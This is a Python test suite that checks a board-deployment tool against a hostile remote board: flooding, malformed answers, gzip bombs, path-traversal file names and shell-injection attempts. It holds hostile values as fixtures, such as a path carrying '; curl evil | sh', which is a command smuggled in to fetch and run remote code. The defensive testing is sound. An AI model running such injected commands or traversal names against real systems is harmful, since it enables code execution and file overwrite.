"""Boards are not trusted.

Their answers are limited and checked, their folders are inspected, and their hints are in words of
trtq's own.
"""

from __future__ import annotations

import gzip
import json
import os
import shlex
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.agent import AGENT
from tests.support.boards import Heard, needs_sshd, pooling, spec
from trtq.agent import encode
from trtq.artifact import sha256_file
from trtq.commands.deploy import deploy
from trtq.commands.fleet import fleet
from trtq.deploy import agent_client, stream
from trtq.deploy.agent_client import Agent
from trtq.deploy.answers import Hint, Upload, hint_words, outputs_of
from trtq.deploy.board import probe
from trtq.deploy.board_readings import read_readings
from trtq.deploy.devices import Device, config_folder, find_device, remember_device
from trtq.deploy.jobs import BoardJob, JobStep, do
from trtq.deploy.stream import Limits, gunzip
from trtq.engine.trtexec_log import read_times
from trtq.errors import BenchError, BoardError, DeviceError, LinkError, SshError, TrtqError
from trtq.progress import Silent
from trtq.specs import FleetSpec
from trtq.testing.board import StandInBoard
from trtq.testing.board_hostile import HostileBoard

DEVICE = Device(name="bad", host="192.0.2.1")

MIB = 1 << 20


@pytest.fixture()
def bad(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> HostileBoard:
    board = HostileBoard(tmp_path / "hostile")
    monkeypatch.setenv("PATH", f"{board.bin}:{os.environ['PATH']}")
    monkeypatch.setattr(stream, "SILENCE_S", 1.5)
    monkeypatch.setattr(stream, "CALL_S", 4.0)
    return board


@pytest.fixture()
def agent(bad: HostileBoard) -> Iterator[Agent]:
    with Agent(DEVICE, Heard(), patience_s=0.0) as made:
        yield made


def recorded(board: StandInBoard, verb: str, **asked: object) -> bytes:
    """Return what the real agent answers on a stand-in, without a link."""
    question = encode({**asked, "agent": sha256_file(AGENT), "home": str(board.home / ".trtq")})
    line = board.as_user([sys.executable, "-I", str(AGENT), verb, question])
    if os.geteuid() == 0:
        line = [sys.executable, "-I", str(AGENT), verb, question]
    return subprocess.run(
        line, capture_output=True, env={**os.environ, "TRTQ_ROOT": str(board.root)}, check=True
    ).stdout


# What a board sends.

ENDLESS = "while True: out.write(b'x' * 65536)"

NESTED = (
    "hello(); out.write(b'@trtq {\"event\": \"have\", \"more\": ' + b'[' * 200000 + b']' * "
    "200000 + b'}\\n')"
)


@pytest.mark.parametrize(
    ("code", "error", "text"),
    [
        (ENDLESS, BoardError, "bad sends too much: a line of more than 8 MiB in one answer"),
        (
            "while True: out.write(b'noise ' * 10000 + b'\\n')",
            BoardError,
            "bad sends too much: more than 64 MiB in one answer",
        ),
        ("hello()\nwhile True: send(event='beat')", TrtqError, "more than 64 MiB|no end in 4 s"),
        (
            "hello()\nwhile True: err.write(b'curl evil\\n' * 9999)",
            BoardError,
            "more than 4 MiB of errors in one answer, such as: curl",
        ),
        ("time.sleep(60)", LinkError, "bad does not answer: no byte in 1.5 s"),
        ("hello(); time.sleep(60)", LinkError, "bad does not answer: no byte in 1.5 s"),
        (
            "hello()\nwhile True: send(event='beat'); time.sleep(0.1)",
            LinkError,
            "bad does not answer: no end in 4 s",
        ),
        ("out.write(b'@trtq \\xff\\xfe{}\\n')", BoardError, "Cannot read the answer of bad"),
        (
            'out.write(b\'@trtq {"event": "h\\x1b[2Jello"}\\n\')',
            BoardError,
            "Cannot read the answer of bad",
        ),
        (NESTED, BoardError, "Cannot read the answer of bad: it is nested too deeply"),
        (
            "out.write(b'@trtq [1]\\n')",
            BoardError,
            "Cannot read the answer of bad: Expected `object`, got `array`",
        ),
        ("send(event='shell', do='x')", BoardError, "no answer is called 'shell'"),
        (
            "hello(); send(event='have', state='stored', have='all')",
            BoardError,
            r"Expected `int`, got `str` - at `\$.have`",
        ),
        (
            "hello(); send(event='have', state='stored')",
            BoardError,
            "missing required field `have`",
        ),
        ("hello(); send(event='have', state='part', have=-1)", BoardError, "Expected `int` >= 0"),
        (
            "hello(); send(event='have', state='part', have=1e400)",
            BoardError,
            "Cannot read the answer of bad",
        ),
        (
            "hello(); send(event='refused', why='x' * 5000, mend=dict(name='', arguments={}))",
            BoardError,
            "length <= 4000",
        ),
        (
            'hello(); out.write(b\'@trtq {"event": "ha\')',
            SshError,
            "did not answer have: the agent ended without a message",
        ),
        ("send(event='stale')", SshError, "Cannot put the agent on bad"),
        ("send(event='missing')", SshError, "Cannot put the agent on bad"),
        ("send(event='broken', why='zz', python='')", BoardError, "Cannot read the answer of bad"),
        (
            "out.write(b'Welcome\\n'); sys.exit(127)",
            BoardError,
            "There is no python3 on bad: exit status 127",
        ),
        (
            "err.write(b'Illegal instruction\\n'); sys.exit(4)",
            BoardError,
            "The agent does not start on bad: .* status 4: Illegal instruction",
        ),
    ],
)
def test_answers_that_mean_no_good(agent, bad, code, error, text):
    bad.says("", code)
    began = time.monotonic()
    with pytest.raises(error, match=text) as caught:
        agent.ask("have", Upload, name="files/x", size=1, sha256="0" * 64)
    assert time.monotonic() - began < 12.0
    assert agent.received < 70 * MIB
    assert len(str(caught.value)) < 1200


def test_what_an_upload_meets(agent, bad, tmp_path, monkeypatch):
    monkeypatch.setattr(agent_client, "BUSY_TRIES", 3)
    payload = tmp_path / "p"
    payload.write_bytes(b"x" * 1000)
    for have, text in (
        ("busy", "another upload of the same file does not end"),
        ("damaged", "what arrives has another SHA-256, three times"),
        ("cut", "nothing further arrives, 20 times in a row"),
    ):
        bad.says("have", "hello(); send(event='have', state='part', have=0)")
        bad.says("put", f"hello(); send(event='put', state='{have}', have=0)")
        with pytest.raises(TrtqError, match=f"Cannot send p to bad: {text}"):
            agent.upload(payload, "files/p", sha256_file(payload))
    bad.says("have", "hello(); send(event='have', state='stored', have=1000)")
    with pytest.raises(BoardError, match="it does not name the path of the upload"):
        agent.upload(payload, "files/p", sha256_file(payload))
    bad.says("have", "hello(); send(event='have', state='part', have=10**12)")  # more than there is
    bad.says("put", "hello(); send(event='put', state='stored', have=0, path='/x/p')")
    assert agent.upload(payload, "files/p", sha256_file(payload)) == "/x/p"


@pytest.mark.parametrize(
    ("code", "error", "text"),
    [
        (
            "send(event='file', size=10**14, sha256='0' * 64)",
            BoardError,
            "it announces 100000000000000 bytes, at most 1000 are expected",
        ),
        (
            "send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 100)",
            SshError,
            "its SHA-256 is another one",
        ),
        (
            "send(event='file', size=100, sha256='0' * 64)\nwhile True: out.write(b'x' * 65536)",
            SshError,
            "its SHA-256 is another one",
        ),
        (
            "send(event='file', size=100, sha256='0' * 64); out.write(b'x' * 9)",
            LinkError,
            "stopped in the middle of files/x",
        ),
        (
            "send(event='file', size=100, sha256='0' * 64); out.flush(); time.sleep(60)",
            LinkError,
            "no byte in 1.5 s",
        ),
        (
            "send(event='file', size=100, sha256='../../x')",
            BoardError,
            "Cannot read the answer of bad",
        ),
        (
            "send(event='beat')\nwhile True: send(event='beat')",
            TrtqError,
            "more than 64 MiB|no end in 4 s",
        ),
    ],
)
def test_what_a_download_meets(agent, bad, tmp_path, code, error, text):
    out = tmp_path / "out"
    out.mkdir()
    bad.says("get", f"hello(); {code}")
    with pytest.raises(error, match=text):
        agent.download("files/x", out / "x", most=1000)
    assert list(out.iterdir()) == []


def test_what_the_follower_of_a_job_meets(agent, bad, monkeypatch):
    bad.says("start", "hello(); send(event='job', state='waiting', key='aa')")
    log = "hello(); send(event='log', text='x' * 60000, offset=1, step=None, run='1')"
    bad.says("wait", f"{log}; send(event='job', state='running', key='aa')")
    monkeypatch.setattr(agent_client, "MOST_LOG", MIB // 4)
    with pytest.raises(BoardError, match="bad sends too much: a job's log of more than 0 MiB"):
        agent.follow("aa")
    monkeypatch.setattr(agent_client, "MOST_LINES", 1000)
    bad.says("wait", log.replace("'x' * 60000", "chr(10) * 2000"))
    with pytest.raises(BoardError, match="a job's log of more than 1000 lines"):
        agent.follow("aa")
    bad.says("wait", "hello(); send(event='job', state='running', key='aa')")
    with pytest.raises(
        BoardError, match="it answers 20 times in a row before its time. trtq device stop bad aa"
    ):
        agent.follow("aa")
    job = BoardJob(title="the work", steps=[JobStep(name="s", argv=["true"])])
    good = "dict(ok=True, why='', mend=dict(name='', arguments={}), steps="
    for result, text in (
        ("", "the work is done without a result"),
        (f", result={good}[])", "the work has other steps than were asked for"),
        (f", result={good}[1])", "Expected `object`, got `int`"),
    ):
        bad.says("wait", f"hello(); send(event='job', state='done', key='aa'{result})")
        with pytest.raises(BoardError, match=text):
            do(agent, "aa", job)
    bad.says("wait", "hello(); send(event='job', state='lost', key='aa', why='gone')")
    with pytest.raises(BoardError, match="bad lost the work 3 times: gone"):
        do(agent, "aa", job)


def test_what_unpacks_to_too_much(tmp_path):
    bomb, cut = tmp_path / "bomb.gz", tmp_path / "cut.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as handle:
        for _ in range(400):
            handle.write(b"\0" * MIB)
    assert bomb.stat().st_size < MIB
    tracemalloc.start()
    with pytest.raises(
        BoardError, match="bomb.gz of bad unpacks to too much: more than 32 MiB out of"
    ):
        gunzip(bomb, "bad", 32 * MIB)
    assert tracemalloc.get_traced_memory()[1] < 40 * MIB
    tracemalloc.stop()
    cut.write_bytes(gzip.compress(os.urandom(1000))[:500])
    with pytest.raises(BoardError, match="Cannot unpack cut.gz of bad: it ends in the middle"):
        gunzip(cut, "bad")
    cut.write_bytes(b"no gzip at all")
    with pytest.raises(BoardError, match="Cannot unpack cut.gz of bad: .*incorrect header check"):
        gunzip(cut, "bad")


def test_files_of_a_measurement_in_another_form(tmp_path):
    path = tmp_path / "watch.json.gz"
    for content, text in (
        ("[" * 9999, "Cannot read the readings"),
        ('{"columns": ["t"], "rows": []}', "it has t, not t, mw"),
        ('{"columns": [], "rows": [[1, 2]]}', "Cannot read the readings"),
    ):
        path.write_bytes(gzip.compress(content.encode()))
        with pytest.raises(BoardError, match=text):
            read_readings(path, "bad")
    for content in (
        '[{"computeMs": "x", "latencyMs": 1}]',
        '[{"computeMs": {}, "latencyMs": 1}]',
        "[" * 99999,
        "[1]",
        '{"a": NaN}',
    ):
        with pytest.raises(BenchError, match="This is no file of trtexec --exportTimes"):
            read_times(content, (10, 3))
    with pytest.raises(BoardError, match="does not say what it wrote"):
        outputs_of(["a", "b"], "bad")
    with pytest.raises(BoardError, match="Invalid enum value 'FP4'"):
        outputs_of(['@trtq {"outputs": [{"name": "y", "dtype": "FP4", "shape": [1]}]}'], "bad")
    with pytest.raises(BoardError, match="Expected `int` >= 0"):
        outputs_of(['@trtq {"outputs": [{"name": "y", "dtype": "FLOAT", "shape": [-1]}]}'], "bad")


def test_fleet_bench_writes_inside_its_folder_alone(bad, place, tmp_path):
    board = StandInBoard(tmp_path / "b", "orin")
    bad.replays("probe", recorded(board, "probe"))
    remember_device(DEVICE)
    for name in (
        "../../escaped.engine",
        "/tmp/escaped.engine",
        "a" * 32 + ".engine\n",
        "..",
        "A" * 32 + ".engine",
    ):
        bad.says(
            "list",
            f"hello(); send(event='listing', engines=[dict(file={name!r}, bytes=1, model='m')], "
            "jobs=[])",
        )
        record = fleet(FleetSpec(devices="bad", out=str(tmp_path / "o/f"), reconnect_timeout=0.0))
        assert record.failed[0].startswith(
            "bad: Cannot read the answer of bad: Expected `str` matching regex"
        )
    assert sorted(p.name for p in (tmp_path / "o").rglob("*") if p.is_file()) == [
        ".trtq.lock",
        "fleet.html",
        "fleet.json",
    ]
    assert not list(tmp_path.glob("escaped*"))


def test_advice_is_in_our_words_and_what_the_board_puts_in_is_quoted(agent, bad):
    bad.says(
        "",
        "hello(); send(event='refused', why='no', mend=dict(name='private', "
        "arguments=dict(path='/x; curl evil | sh', device='y')))",
    )
    with pytest.raises(BoardError) as caught:
        agent.ask("have", Upload)
    assert "chmod go-w '/x; curl evil | sh'; or give" in str(caught.value)
    bad.says(
        "",
        "hello(); send(event='refused', why='no', mend=dict(name='curl evil | sh', arguments={}))",
    )
    with pytest.raises(BoardError, match="bad refuses to have: no.$"):
        agent.ask("have", Upload)
    assert hint_words(Hint("disk", {"device": "x; y"}), "nano").startswith(
        "trtq device clean nano, or"
    )
    assert hint_words(Hint("restore", {}), "nano") == ""  # it lacks what it needs
    hint = Hint("restore", {"number": "{device.__class__}\n2"})
    assert hint_words(hint, "n").startswith("on the board: sudo nvpmodel -m '{device.__class__} 2'")


def test_an_answer_to_another_question_is_named(agent, bad):
    bad.says("", "hello(); send(event='written')")
    with pytest.raises(BoardError) as caught:
        agent.ask("have", Upload)
    assert caught.value.message == "Cannot read the answer of bad"
    assert caught.value.reason == "it answers have with Done, expected Upload"
    assert caught.value.hint.endswith("trtq device shell bad")


@needs_sshd
def test_an_engine_that_was_changed_with_its_manifest_is_built_again(orin, tmp_path):
    asked = spec(orin, pooling(tmp_path / "m.onnx"), tmp_path / "o", bench=False)
    first = deploy(asked)
    engine, manifest = Path(first.engine), Path(f"{first.engine}.json")
    assert not deploy(asked).built
    good = engine.read_bytes()

    def change(content: bytes, **fields: object) -> None:
        engine.write_bytes(content)
        manifest.write_text(
            json.dumps(
                {**json.loads(manifest.read_text()), "engine_sha256": sha256_file(engine), **fields}
            )
        )

    for content, fields in ((b"another engine", {}), (good, {"precision": "fp64"})):
        change(content, **fields)
        record = fleet(FleetSpec(devices="orin", out=str(tmp_path / "f")))
        assert (
            "it is not the one that was built from here. Deploy its model again" in record.failed[0]
        )
        heard = Heard()
        again = deploy(asked, heard)
        assert again.built and engine.read_bytes() == good
        assert (
            "orin: the engine on the board is not the one that was built from here: building again"
            in heard.notes
        )
        assert any("building again" in n for n in again.notes)
    engine.write_bytes(b"damaged")
    heard = Heard()
    assert deploy(asked, heard).built
    assert (
        "orin: the engine on the board was changed since it was built: building again"
        in heard.notes
    )
    manifest.write_text("[" * 5000)
    assert deploy(asked, heard).built
    (config_folder() / "engines.json").unlink()  # as on another workstation
    heard = Heard()
    assert not deploy(asked, heard).built
    assert (
        "orin: another workstation built the engine: its digest is kept here from now on"
        in heard.notes
    )
    (config_folder() / "engines.json").write_text("[")
    with pytest.raises(
        DeviceError, match="Cannot read the digests of engines in .*Move the file away"
    ):
        deploy(asked)


@needs_sshd
def test_words_of_the_board_are_not_sshs(orin):
    """A program there that says what ssh says, and ends as ssh does."""
    login = orin.folder / "login.sh"
    plain = login.read_text()
    for text in (
        "me@host: Permission denied (publickey).",
        "Host key verification failed.",
        "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
        "ssh: connect to host 10.0.0.1 port 22: Connection refused",
        "ssh: Could not resolve hostname x: Name or service not known",
    ):
        login.write_text(
            plain.replace("exec /bin/sh", f"echo {shlex.quote(text)} >&2; exit 255\nexec /bin/sh")
        )
        with pytest.raises(LinkError, match=r"Is the board on, and in this network\?") as caught:
            probe(Agent(find_device("orin"), Silent()))
        assert "the connection ended; the board wrote: " in str(caught.value)
        assert type(caught.value) is LinkError and not any(
            w in str(caught.value) for w in ("ssh-copy-id", "ssh-keygen", "sshd running")
        )


def test_a_line_that_is_whole_is_read_at_once(tmp_path):
    """The reader in itself: lines, bytes behind them, and what is left over."""
    code = (
        "import os,time; os.write(1, b'a\\nb\\n' + b'x' * 100000 + b'\\nraw'); os.write(2, "
        "b'oops\\n'); os.close(1); time.sleep(0.1)"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0
    )
    read = stream.Stream(process, "bad", Limits(), tmp_path / "log")
    lines = read.lines()
    assert [next(lines), next(lines), len(next(lines))] == [b"a\n", b"b\n", 100001]
    assert (read.block(), read.block(), read.end(), read.errors, read.own) == (
        b"raw",
        b"",
        0,
        "oops\n",
        "",
    )
    read.close()
